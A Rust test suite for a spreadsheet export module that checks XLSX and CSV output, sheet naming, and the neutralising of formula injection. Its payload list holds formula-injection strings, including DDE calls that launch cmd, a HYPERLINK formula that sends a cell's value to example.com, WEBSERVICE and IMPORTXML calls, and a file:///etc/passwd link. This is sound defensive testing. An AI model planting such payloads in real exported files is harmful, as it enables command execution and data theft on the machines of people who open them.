use calamine::Data;
use proptest::prelude::*;

use super::*;
use crate::domain::money::{Currency, Money as Amount};
use crate::exchange::outlet::table::Column;
use crate::exchange::outlet::{self, Format as Outlet};
use crate::exchange::workbook;
use crate::i18n::{Language, Words};

/// 2026-11-22T15:46+08:00.
const NOW: i64 = 1_795_333_560_000;

fn table_of(title: &str, rows: Vec<Vec<Cell>>) -> Table {
    let columns = (0..rows[0].len()).map(|at| Column::new("c", format!("列{at}")));
    Table {
        title: title.to_owned(),
        columns: columns.collect(),
        rows,
    }
}

fn written(table: &Table, format: Outlet) -> Vec<u8> {
    let words = Words::new(Language::ZhCn);
    let look = Look {
        words: &words,
        zone: chrono_tz::Asia::Shanghai,
    };
    outlet::write(table, format, &look, NOW).unwrap()
}

/// What a program that reads workbooks finds in the cells of the second row.
fn second_row(table: &Table) -> Vec<Data> {
    let (range, formulas) = workbook::read_back(&written(table, Outlet::Xlsx));
    assert_eq!(formulas, 0);
    (0..table.columns.len() as u32)
        .map(|column| range.get_value((1, column)).cloned().unwrap_or_default())
        .collect()
}

#[test]
fn cells_are_of_their_kind() {
    let dollars = |minor| {
        Cell::Money(Amount {
            minor,
            currency: Currency::of("USD").unwrap(),
        })
    };
    let table = table_of(
        "订单",
        vec![vec![
            Cell::Number("4031902847193518258".into()),
            Cell::Number("007".into()),
            Cell::Text(" =1+1\u{1b}\n_x0041_".into()),
            Cell::Money(Amount::cny(-12_905)),
            Cell::Money(Amount::cny(99_999_999_999_999_999)),
            Cell::Integer(-3),
            Cell::Integer(i64::MIN),
            Cell::Time(NOW),
            Cell::Day("2026-11-22".into()),
            Cell::Day("=1".into()),
            Cell::Flag(true),
            Cell::Empty,
            dollars(500),
        ]],
    );
    let text = |text: &str| Data::String(text.to_owned());
    let row = second_row(&table);
    assert_eq!(
        row[..7],
        [
            text("4031902847193518258"),
            text("007"),
            text(" =1+1␛\n_x0041_"),
            Data::Float(-129.05),
            text("999999999999999.99"),
            Data::Float(-3.0),
            text("-9223372036854775808"),
        ]
    );
    let Data::DateTime(time) = row[7] else {
        panic!("{:?}", row[7])
    };
    assert_eq!(time.to_ymd_hms_milli(), (2026, 11, 22, 15, 46, 0, 0));
    let Data::DateTime(day) = row[8] else {
        panic!("{:?}", row[8])
    };
    assert_eq!(day.to_ymd_hms_milli(), (2026, 11, 22, 0, 0, 0, 0));
    assert_eq!(
        row[9..],
        [text("=1"), text("是"), Data::Empty, Data::Float(5.0)]
    );
    let shown = workbook::shown(&written(&table, Outlet::Xlsx));
    assert!(shown.lines().any(|line| line == "列12 (USD)"), "{shown}");
    let several = table_of(
        "",
        vec![vec![Cell::Money(Amount::cny(100))], vec![dollars(500)]],
    );
    assert_eq!(second_row(&several), [text("CNY 1.00")]);
}

#[test]
fn the_same_table_gives_the_same_bytes_with_a_heading_that_stays() {
    let table = table_of("订单", vec![vec![Cell::Text("a".into())]]);
    let bytes = written(&table, Outlet::Xlsx);
    std::thread::sleep(std::time::Duration::from_millis(1_100));
    assert_eq!(bytes, written(&table, Outlet::Xlsx));
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut part = |name: &str| {
        let part = archive.by_name(name).unwrap();
        std::io::read_to_string(part).unwrap()
    };
    let sheet = part("xl/worksheets/sheet1.xml");
    assert!(sheet.contains("state=\"frozen\"") && sheet.contains("numberStoredAsText"));
    assert!(part("docProps/core.xml").contains("2026-11-22T07:46:00Z"));
    // A table without rows, and one without columns.
    for columns in [vec![Column::new("c", "列")], Vec::new()] {
        let empty = Table {
            title: "'[a]:*?/\\'".into(),
            columns,
            rows: Vec::new(),
        };
        assert_eq!(workbook::read_back(&written(&empty, Outlet::Xlsx)).1, 0);
    }
    let wide = Table {
        columns: vec![Column::new("c", "c"); 20_000],
        ..Table::default()
    };
    let words = Words::new(Language::En);
    let look = Look {
        words: &words,
        zone: chrono_tz::UTC,
    };
    let problem = write(&wide, &look, NOW).unwrap_err();
    assert_eq!(problem.message, "problem-outlet-sheet");
    // What is wrong with us is not said to be the table's size.
    let problem = write(&table, &look, i64::MAX).unwrap_err();
    assert_eq!(problem.kind, Kind::Defect);
}

#[test]
fn a_document_has_a_sheet_for_each_of_its_tables() {
    let words = Words::new(Language::ZhCn);
    let look = Look {
        words: &words,
        zone: chrono_tz::Asia::Shanghai,
    };
    let table = |title, value| table_of(title, vec![vec![Cell::Integer(value)]]);
    let (first, second) = (table("日报", 1), table("每小时", 2));
    let (third, fourth) = (table("日报", 3), table("", 4));
    let long = "Report".repeat(6);
    let (fifth, sixth) = (table(&long, 5), table(&long.to_uppercase(), 6));
    let all = [&first, &second, &third, &fourth, &fifth, &sixth];
    let bytes = book(&all, &look, NOW).unwrap();
    let mut book: calamine::Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap();
    let names = [
        ("日报", 1.0),
        ("每小时", 2.0),
        ("日报 2", 3.0),
        ("Sheet4", 4.0),
        ("ReportReportReportReportReportR", 5.0),
        ("REPORTREPORTREPORTREPORTREPOR 2", 6.0),
    ];
    assert_eq!(
        calamine::Reader::sheet_names(&book),
        names.map(|(name, _)| name)
    );
    for (name, value) in names {
        let range = calamine::Reader::worksheet_range(&mut book, name).unwrap();
        assert_eq!(range.get_value((1, 0)), Some(&Data::Float(value)));
    }
}

#[test]
fn names_of_sheets_are_such_as_programs_take() {
    for (title, want) in [
        ("订单", Some("订单")),
        ("'a'", Some("a")),
        ("", None),
        ("/:*?", None),
    ] {
        assert_eq!(sheet_name(title).as_deref(), want, "{title}");
    }
    let long = "交接".repeat(40);
    assert_eq!(sheet_name(&long).unwrap().chars().count(), SHEET_NAME);
}

/// Texts that spreadsheets would take for formulas, calls of programs, or links.
fn payloads() -> Vec<String> {
    let bodies = [
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://example.com?x=\"&A1,\"x\")",
        "DDE(\"cmd\",\"/C calc\",\"x\")",
        "IMPORTXML(\"http://example.com\",\"//a\")",
        "WEBSERVICE(\"http://example.com\")",
        "SUM(1,1)*cmd|' /C calc'!A0",
    ];
    let begins = [
        "=",
        "+",
        "-",
        "@",
        "＝",
        "＋",
        "－",
        "＠",
        " =",
        "\t=",
        "\r=",
        "\n=",
        "\u{feff}=",
        "\u{200b}=",
    ];
    let mut all: Vec<String> = begins
        .iter()
        .flat_map(|begin| bodies.iter().map(move |body| format!("{begin}{body}")))
        .collect();
    all.extend(
        [
            "=",
            "==1",
            "=-1+1",
            "{=SUM(A1)}",
            "|calc",
            "%0A=1",
            "\"=1\"",
            "';=1",
            "1;=2",
            "\",=1,\"",
            "http://example.com",
            "https://example.com/?q=1",
            "mailto:a@example.com",
            "file:///etc/passwd",
            "internal:Sheet1!A1",
            "\\\\host\\share",
            "4031902847193518258",
            "1E5",
            "-2.5",
            "TRUE",
            "#REF!",
            "_x003D_1+1",
            "<f>1+1</f>",
            "]]><f>1</f>",
        ]
        .map(str::to_owned),
    );
    all
}

/// Whether a spreadsheet that reads the text of a cell would reckon with it.
fn would_run(cell: &str) -> bool {
    let seen = cell.trim_start_matches([' ', '\u{a0}', '\u{3000}', '\u{200b}', '\u{feff}']);
    seen.starts_with([
        '=', '+', '-', '@', '\t', '\r', '\n', '|', '%', '＝', '＋', '－', '＠',
    ])
}

#[test]
fn export_inert() {
    let all = payloads();
    assert!(all.len() >= 60);
    let cells = all.iter().map(|text| {
        vec![
            Cell::Text(text.clone()),
            Cell::Number(text.clone()),
            Cell::Day(text.clone()),
            Cell::word("w", text.clone()),
            Cell::List(vec![text.clone()]),
            Cell::Nested {
                value: serde_json::Value::Null,
                line: text.clone(),
            },
        ]
    });
    let mut table = table_of("=1+1", cells.collect());
    table.columns[0].label = "=1+1".into();
    let (range, formulas) = workbook::read_back(&written(&table, Outlet::Xlsx));
    assert_eq!(formulas, 0);
    for (at, text) in all.iter().enumerate() {
        for column in 0..6 {
            let read = range.get_value((at as u32 + 1, column)).unwrap();
            assert_eq!(read, &Data::String(clean::xlsx(text)), "{text:?}");
        }
    }
    let bytes = written(&table, Outlet::Xlsx);
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(&bytes)).unwrap();
    let sheet = archive.by_name("xl/worksheets/sheet1.xml").unwrap();
    let sheet = std::io::read_to_string(sheet).unwrap();
    assert!(!sheet.contains("<f>") && !sheet.contains("hyperlink"));

    let csv = String::from_utf8(written(&table, Outlet::Csv)).unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    let mut read = 0;
    for record in reader.records() {
        for cell in &record.unwrap() {
            assert!(!would_run(cell), "{cell:?}");
            read += 1;
        }
    }
    assert_eq!(read, (all.len() + 1) * 6);
    println!("export_inert: {} payloads, 0 formulas", all.len());
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(60))]

    #[test]
    fn every_text_is_read_back_as_it_stands(text in "(_x00|[=＝<&'\"\t\r\n \u{7}\u{fffe}]|\\PC){0,24}", number in any::<i32>()) {
        let text = format!("{text}x");
        let table = table_of("t", vec![vec![
            Cell::Text(text.clone()),
            Cell::Money(Amount::cny(i64::from(number))),
        ]]);
        let row = second_row(&table);
        prop_assert_eq!(&row[0], &Data::String(clean::xlsx(&text)));
        let Data::Float(amount) = row[1] else { panic!("{:?}", row[1]) };
        let want = f64::from(number) / 100.0;
        prop_assert_eq!(amount.to_string(), want.to_string());
        // And by our own reader.
        let bytes = written(&table, Outlet::Xlsx);
        let mut book = crate::exchange::intake::sheets::Book::open(&bytes).unwrap().unwrap();
        let cells = book.records(0).unwrap().nth(1).unwrap().unwrap().cells.unwrap();
        prop_assert_eq!(&cells[0], &clean::xlsx(&text));
        let plain = crate::exchange::intake::values::money(&cells[1], "CNY").unwrap();
        prop_assert_eq!(plain.0, i64::from(number));
    }
}
